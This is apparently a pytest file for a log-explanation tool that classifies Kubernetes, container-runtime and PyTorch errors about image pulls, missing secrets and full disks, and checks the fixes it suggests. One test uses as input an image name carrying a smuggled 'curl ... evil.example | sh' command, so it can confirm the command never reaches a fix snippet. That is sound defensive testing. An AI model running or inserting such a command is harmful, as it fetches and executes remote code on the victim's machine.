"""The text side of image.pull_failed, container.config_error and storage.disk_full: lines worded as the
kubelet, containerd, runc, the kernel and PyTorch word them (signatures/images.py, containers.py,
storage.py), their details and their fixes."""
from __future__ import annotations

import time
from pathlib import Path

import pytest

from playbooks.explain import explain_text
from playbooks.signatures import scan_line
from tests.playbooks.test_explain import check_snippet

FIXTURES = Path(__file__).parent.parent / "fixtures" / "text"
ECR = "123456789012.dkr.ecr.us-west-2.amazonaws.com/llm-train:v42"
PULL = 'Warning  Failed  3s  kubelet  Failed to pull image "{image}": rpc error: code = {code} desc = failed to pull and unpack image "{image}": {error}'


def only(line: str, code: str, **fields: str):
    """The signal of ``code`` these rules give (the structural failure reader may add its own of the same code)."""
    signals = [s for s in scan_line(line, source="test") if s.code == code and "kind" not in s.fields
               and all(s.fields.get(k) == v for k, v in fields.items())]
    assert len(signals) == 1, [(s.code, dict(s.fields)) for s in scan_line(line, source="test")]
    return signals[0]


def first(text: str):
    findings = explain_text(text).findings
    assert findings, text
    return findings[0]


# --- image.pull_failed -------------------------------------------------------------------------------

PULL_ERRORS = [
    ("not_found", "NotFound", f'failed to resolve reference "{ECR}": {ECR}: not found'),
    ("unauthorized", "Unknown", f'failed to resolve reference "{ECR}": unexpected status from HEAD request to '
                                "https://123456789012.dkr.ecr.us-west-2.amazonaws.com/v2/llm-train/manifests/v42: 403 Forbidden"),
    ("unauthorized", "Unknown", "failed to resolve reference: failed to authorize: failed to fetch oauth token: "
                                "unexpected status from GET request to https://auth.example.com/token: 401 Unauthorized"),
    ("unauthorized", "Unknown", "failed to resolve reference: pull access denied, repository does not exist or may "
                                "require authorization: server message: insufficient_scope: authorization failed"),
    ("rate_limited", "Unknown", "failed to copy: httpReadSeeker: failed open: unexpected status code "
                                "https://registry-1.docker.io/v2/library/python/manifests/sha256:0d: 429 Too Many Requests - "
                                "Server message: toomanyrequests: You have reached your pull rate limit."),
    ("network", "DeadlineExceeded", 'failed to resolve reference: failed to do request: Head "https://ghcr.io/v2/o/t/manifests/1": '
                                    "dial tcp 140.82.112.34:443: i/o timeout"),
    ("network", "Unknown", 'failed to do request: Head "https://registry.internal/v2/": dial tcp: lookup registry.internal '
                           "on 10.0.0.2:53: no such host"),
    ("disk_full", "Unknown", "failed to extract layer sha256:ab: write /var/lib/containerd/io.containerd.snapshotter.v1."
                             "overlayfs/snapshots/12/fs/usr/lib/libcudnn.so: no space left on device: unknown"),
]


@pytest.mark.parametrize(("problem", "grpc", "error"), PULL_ERRORS, ids=[f"{p}-{i}" for i, (p, _, _) in enumerate(PULL_ERRORS)])
def test_a_pull_error_says_what_the_registry_answered(problem: str, grpc: str, error: str) -> None:
    signal = only(PULL.format(image=ECR, code=grpc, error=error), "image.pull_failed")
    assert (signal.severity, signal.confidence) == ("error", "high")
    assert signal.fields["problem"] == problem
    assert signal.fields["image"] == ECR
    assert (signal.fields["ecr_region"], signal.fields["ecr_repository"], signal.fields["tag"]) == ("us-west-2", "llm-train", "v42")


@pytest.mark.parametrize(("line", "problem"), [
    ('Warning  InspectFailed  5s  kubelet  Failed to apply default image tag "nvcr.io/nvidia/PyTorch :24.01": couldn\'t '
     'parse image reference "nvcr.io/nvidia/PyTorch :24.01": invalid reference format', "invalid_name"),
    ('Warning  ErrImageNeverPull  5s  kubelet  Container image "trainer:v1" is not present with pull policy of Never', "never_pull"),
    ("Error response from daemon: toomanyrequests: You have reached your pull rate limit. You may increase the limit "
     "by authenticating and upgrading: https://www.docker.com/increase-rate-limit", "rate_limited"),
    ("Error response from daemon: Get https://123456789012.dkr.ecr.us-east-1.amazonaws.com/v2/x/manifests/1: "
     "no basic auth credentials", "unauthorized"),
])
def test_kubelet_and_docker_wordings_without_a_failed_pull_event(line: str, problem: str) -> None:
    # the event's own reason (ErrImageNeverPull) may add a second signal of the same code: both say the same
    assert {s.fields.get("problem") for s in scan_line(line, source="t") if s.code == "image.pull_failed"} == {problem}


@pytest.mark.parametrize(("line", "reason"), [
    ("      Reason:       ImagePullBackOff", "ImagePullBackOff"),
    ("  Warning  Failed     2m (x6 over 4m)   kubelet  Error: ErrImagePull", "ErrImagePull"),
    ("llama-worker-0   0/1     InvalidImageName   0          3m", "InvalidImageName"),
    ('  Normal   BackOff    2m (x6 over 4m)   kubelet  Back-off pulling image "nvcr.io/nvidia/pytorch:25.13-py3"', "ImagePullBackOff"),
    ('{"state":{"waiting":{"reason":"ErrImageNeverPull","message":"Container image \\"x:1\\" is not present with pull policy of Never"}}}',
     "ErrImageNeverPull"),
])
def test_waiting_reasons_are_pull_failures(line: str, reason: str) -> None:
    signal = next(s for s in scan_line(line, source="t") if s.code == "image.pull_failed" and "reason" in s.fields)
    assert signal.fields["reason"] == reason and signal.severity == "error"


def test_the_back_off_message_since_1_30_carries_the_previous_error() -> None:
    line = ('Back-off pulling image "ghcr.io/o/t:1": ErrImagePull: failed to pull and unpack image "ghcr.io/o/t:1": '
            "failed to resolve reference \"ghcr.io/o/t:1\": ghcr.io/o/t:1: not found")
    problems = {s.fields.get("problem") for s in scan_line(line, source="t") if s.code == "image.pull_failed"}
    assert problems == {"not_found"}


def test_an_image_that_is_no_image_reference_never_reaches_a_field_or_a_fix() -> None:
    line = 'Warning  Failed  1s  kubelet  Failed to pull image "$(curl${IFS}evil.example|sh)": failed to resolve reference: not found'
    signal = only(line, "image.pull_failed")
    assert "image" not in signal.fields and signal.fields["problem"] == "not_found"
    finding = first(line)
    assert "IMAGE='<image>'" in finding.fix.snippet and "curl" not in finding.fix.snippet


def test_describe_events_of_a_denied_pull_name_the_image_and_the_credentials() -> None:
    finding = first((FIXTURES / "public" / "image_pull_denied_events.log").read_text())
    assert finding.code == "image.pull_failed" and finding.severity == "error"
    assert "tutum/curl" in finding.title and "does not exist or needs credentials" in finding.title
    assert "imagePullSecrets" in finding.detail and "check the name first" in finding.detail


def test_ecr_findings_give_ecr_fixes() -> None:
    not_found = first(PULL.format(image=ECR, code="NotFound", error=PULL_ERRORS[0][2]))
    assert "aws ecr describe-images --region us-west-2 --repository-name llm-train" in not_found.fix.snippet
    denied = first(PULL.format(image=ECR, code="Unknown", error=PULL_ERRORS[1][2]))
    assert "AmazonEC2ContainerRegistryReadOnly" in denied.detail
    assert "aws ecr get-repository-policy --region us-west-2 --repository-name llm-train" in denied.fix.snippet
    limited = first(PULL.format(image="python:3.12", code="Unknown", error=PULL_ERRORS[4][2]))
    assert "pull-through cache" in limited.detail and "create-pull-through-cache-rule" in limited.fix.snippet


def test_a_missing_pull_secret_is_a_weak_warning() -> None:
    line = ("Warning  FailedToRetrieveImagePullSecret  3s  kubelet  Unable to retrieve some image pull secrets (regcred); "
            "attempting to pull the image may not succeed.")
    signal = only(line, "image.pull_failed")
    assert (signal.severity, signal.confidence, signal.fields["secret"]) == ("warning", "low", "regcred")


# --- benign look-alikes --------------------------------------------------------------------------------

BENIGN = [
    'Normal  Pulling  88s  kubelet  Pulling image "nvcr.io/nvidia/pytorch:25.01-py3"',
    'Normal  Pulled  20s  kubelet  Successfully pulled image "nvcr.io/nvidia/pytorch:25.01-py3" in 20.1s (20.1s including waiting). Image size: 9916508213 bytes.',
    'Normal  Pulled  10s  kubelet  Container image "nvidia/cuda:13.0.2-runtime-ubuntu22.04" already present on machine',
    "Normal  Created  3s  kubelet  Created container: pytorch",
    "Normal  Started  3s  kubelet  Started container pytorch",
    "Normal  Scheduled  18s  default-scheduler  Successfully assigned ml/llama-worker-0 to ip-10-0-5-89.ec2.internal",
    "Filesystem      Size  Used Avail Use% Mounted on\n/dev/nvme0n1p1  500G  120G  380G  24% /",
]


def test_benign_look_alikes_stay_quiet() -> None:
    for text in BENIGN:
        loud = [f for f in explain_text(text).findings if f.severity != "info"]
        assert not loud, (text, [(f.code, f.title) for f in loud])


@pytest.mark.parametrize("line", ["Error: ENOSPC: System limit for number of file watchers reached, watch '/app/src'",
                                  "OSError: [Errno 28] inotify watch limit reached"])
def test_errno_28_of_inotify_is_no_full_disk(line: str) -> None:
    # these rules only; the structural reader's errno table (playbooks/failures) reads Errno 28 on its own
    assert not [s for s in scan_line(line, source="t") if s.code == "storage.disk_full" and "kind" not in s.fields]


# --- container.config_error --------------------------------------------------------------------------

RUNC = ("Warning  Failed  4s  kubelet  Error: failed to create containerd task: failed to create shim task: OCI runtime "
        "create failed: runc create failed: unable to start container process: {error}: unknown")


@pytest.mark.parametrize(("line", "fields"), [
    ("Error: couldn't find key HF_TOKEN in Secret ml/hf-credentials",
     {"key": "HF_TOKEN", "secret": "hf-credentials", "namespace": "ml", "problem": "missing key"}),
    ('E0101 00:00:00.000000 1 kuberuntime_manager.go:1] "Error" err="couldn\'t find key lr in ConfigMap ml/train-cfg" containerName="pytorch"',
     {"key": "lr", "configmap": "train-cfg", "container": "pytorch", "problem": "missing key"}),
    ('Warning  Failed  8s  kubelet  Error: secret "wandb-api" not found', {"secret": "wandb-api", "problem": "missing secret"}),
    ('Warning  Failed  8s  kubelet  Error: configmap "train-config" not found', {"configmap": "train-config", "problem": "missing configmap"}),
    ('Warning  FailedMount  2m  kubelet  MountVolume.SetUp failed for volume "creds" : secret "s3-creds" not found',
     {"secret": "s3-creds", "volume": "creds", "problem": "missing secret"}),
    (RUNC.format(error='exec: "torchrun": executable file not found in $PATH'), {"path": "torchrun", "problem": "executable not found"}),
    (RUNC.format(error='exec: "/workspace/train.sh": stat /workspace/train.sh: no such file or directory'),
     {"path": "/workspace/train.sh", "problem": "no such file"}),
    (RUNC.format(error='exec: "/workspace/train.sh": permission denied'), {"path": "/workspace/train.sh", "problem": "permission denied"}),
    (RUNC.format(error='error during container init: error mounting "/var/lib/kubelet/pods/x/volume-subpaths/cfg/pytorch/0" '
                       'to rootfs at "/etc/train/config.yaml": not a directory'),
     {"path": "/etc/train/config.yaml", "problem": "mount failed"}),
    ('Warning  Unhealthy  10s  kubelet  Liveness probe errored: rpc error: code = Unknown desc = failed to exec in container: '
     'OCI runtime exec failed: exec failed: unable to start container process: exec: "curl": executable file not found in $PATH: unknown',
     {"path": "curl", "probe": "liveness", "problem": "executable not found"}),
])
def test_a_spec_the_runtime_cannot_run_is_a_config_error(line: str, fields: dict[str, str]) -> None:
    signal = only(line, "container.config_error")
    assert (signal.severity, signal.confidence) == ("error", "high")
    assert {k: signal.fields.get(k) for k in fields} == fields


def test_a_bare_go_exec_error_is_only_a_warning() -> None:
    signal = only('exec: "nvidia-smi": executable file not found in $PATH', "container.config_error")
    assert (signal.severity, signal.confidence) == ("warning", "medium")
    arch = only("exec /usr/bin/python3: exec format error", "container.config_error")
    assert arch.fields["problem"] == "wrong architecture" and arch.fields["path"] == "/usr/bin/python3"


def test_the_nvidia_toolkit_hook_is_the_node_not_the_spec() -> None:
    line = RUNC.format(error="error during container init: error running hook #0: error running hook: exit status 1, "
                             "stdout: , stderr: nvidia-container-cli: initialization error: nvml error: driver not loaded")
    assert not [s for s in scan_line(line, source="t") if s.code == "container.config_error"]


def test_the_public_secret_key_case_is_read_whole() -> None:
    finding = first((FIXTURES / "public" / "create_container_config_secret_key.log").read_text())
    assert finding.code == "container.config_error"
    assert finding.title == "Secret aegis-secret-aegis-workload-demo has no key VALUE: the container cannot be created"
    assert "optional: true" in finding.detail
    assert "kubectl describe secret \"$SECRET_NAME\" -n \"$NAMESPACE\"" in finding.fix.snippet
    assert "SECRET_NAME=aegis-secret-aegis-workload-demo" in finding.fix.snippet  # a name, never masked
    assert "NAMESPACE=default" in finding.fix.snippet


def test_the_waiting_reason_alone_says_where_to_look() -> None:
    finding = first("      Reason:       CreateContainerConfigError")
    assert finding.code == "container.config_error" and finding.confidence == "medium"
    assert "Error: ..." in finding.detail


# --- storage.disk_full -------------------------------------------------------------------------------

@pytest.mark.parametrize(("line", "code", "fields"), [
    ("OSError: [Errno 28] No space left on device: '/checkpoints/step_1000/model.safetensors'", "storage.disk_full",
     {"path": "/checkpoints/step_1000/model.safetensors", "problem": "no space"}),
    ("OSError: [Errno 122] Disk quota exceeded: '/home/ray/.cache/huggingface/hub/x.bin'", "storage.disk_full",
     {"path": "/home/ray/.cache/huggingface/hub/x.bin", "problem": "quota exceeded"}),
    ("cp: error writing '/data/shard-0001.tar': No space left on device", "storage.disk_full",
     {"path": "/data/shard-0001.tar", "problem": "no space"}),
    ('level=error msg="failed to write" error="write /var/lib/containerd/io.containerd.content.v1.content/ingest/ab/data: '
     'no space left on device"', "storage.disk_full",
     {"path": "/var/lib/containerd/io.containerd.content.v1.content/ingest/ab/data", "problem": "node disk"}),
    ("OSError: [Errno 28] No space left on device: '/dev/shm/batch-17'", "training.shm_exhausted", {"path": "/dev/shm/batch-17"}),
    ("host:12:12 [0] misc/shmutils.cc:60 NCCL WARN Call to posix_fallocate failed : No space left on device",
     "training.shm_exhausted", {}),
    ('Warning  Evicted  1m  kubelet  Container pytorch exceeded its local ephemeral storage limit "50Gi". ', "storage.disk_full",
     {"container": "pytorch", "limit": "50Gi", "scope": "container", "resource": "ephemeral-storage"}),
    ("Warning  Evicted  1m  kubelet  Pod ephemeral local storage usage exceeds the total limit of containers 20Gi. ",
     "storage.disk_full", {"limit": "20Gi", "scope": "pod"}),
    ('Warning  Evicted  1m  kubelet  Usage of EmptyDir volume "scratch" exceeds the limit "100Gi". ', "storage.disk_full",
     {"volume": "scratch", "limit": "100Gi", "scope": "emptyDir"}),
    ("Warning  Evicted  2m  kubelet  The node was low on resource: ephemeral-storage. Threshold quantity: 10Gi, available: "
     "8Gi. Container pytorch was using 180Gi, which exceeds its request of 0. ", "storage.disk_full",
     {"resource": "ephemeral-storage", "container": "pytorch", "usage": "180Gi", "request": "0", "reason": "Evicted"}),
    ("RuntimeError: [enforce fail at inline_container.cc:445] . PytorchStreamWriter failed writing file data/176: "
     "file write failed", "storage.disk_full", {"record": "data/176", "problem": "write failed"}),
])
def test_full_filesystems(line: str, code: str, fields: dict[str, str]) -> None:
    only(line, code, **fields)


def test_memory_evictions_stay_terminations() -> None:
    line = ("Warning  Evicted  2m  kubelet  The node was low on resource: memory. Threshold quantity: 100Mi, available: "
            "80Mi. Container pytorch was using 600Gi, which exceeds its request of 500Gi. ")
    assert [s.code for s in scan_line(line, source="t")] == ["training.terminated"]


def test_a_node_short_of_disk_gets_a_bigger_root_volume() -> None:
    finding = first("Warning  Evicted  2m  kubelet  The node was low on resource: ephemeral-storage. "
                    "Threshold quantity: 10Gi, available: 8Gi. ")
    assert finding.code == "storage.disk_full"
    assert "kind: EC2NodeClass" in finding.fix.snippet and "volumeSize: 500Gi" in finding.fix.snippet
    gc = first("Warning  FreeDiskSpaceFailed  2m  kubelet  Failed to garbage collect required amount of images. "
               "Attempted to free 42949672960 bytes, but only found 0 bytes eligible to free.")
    assert gc.code == "storage.disk_full" and "kind: EC2NodeClass" in gc.fix.snippet


@pytest.mark.parametrize("name", ["gpu/enospc_write.log", "gpu/checkpoint_disk_full.log",
                                  "public/checkpoint_write_failed_chatglm.log"])
def test_real_outputs_of_a_full_disk(name: str) -> None:
    codes = [f.code for f in explain_text((FIXTURES / name).read_text()).findings]
    assert "storage.disk_full" in codes, codes


# --- fixes validate in every branch ------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "OSError: [Errno 28] No space left on device: '/checkpoints/x.pt'",
    'Warning  Evicted  1m  kubelet  Container pytorch exceeded its local ephemeral storage limit "50Gi". ',
    'Warning  Evicted  1m  kubelet  Usage of EmptyDir volume "scratch" exceeds the limit "100Gi". ',
    "Warning  Evicted  2m  kubelet  The node was low on resource: ephemeral-storage. ",
])
def test_disk_full_fixes_validate_against_the_schemas(line: str) -> None:
    finding = first(line)
    assert finding.code == "storage.disk_full"
    check_snippet("generic/storage.disk_full.yaml.j2", finding.fix.snippet)


# --- linear time -------------------------------------------------------------------------------------

@pytest.mark.parametrize("seed", [
    'Failed to pull image "', "couldn't find key ", 'exec: "', "No space left on device: '", "[Errno 28] ",
    "Container x exceeded its local ephemeral storage limit \"", "error mounting \"",
])
def test_long_hostile_lines_scan_in_linear_time(seed: str) -> None:
    line = seed + ("a" * 30_000) + seed + ('"\\ ' * 10_000)
    started = time.perf_counter()
    scan_line(line, source="t")
    assert time.perf_counter() - started < 0.5
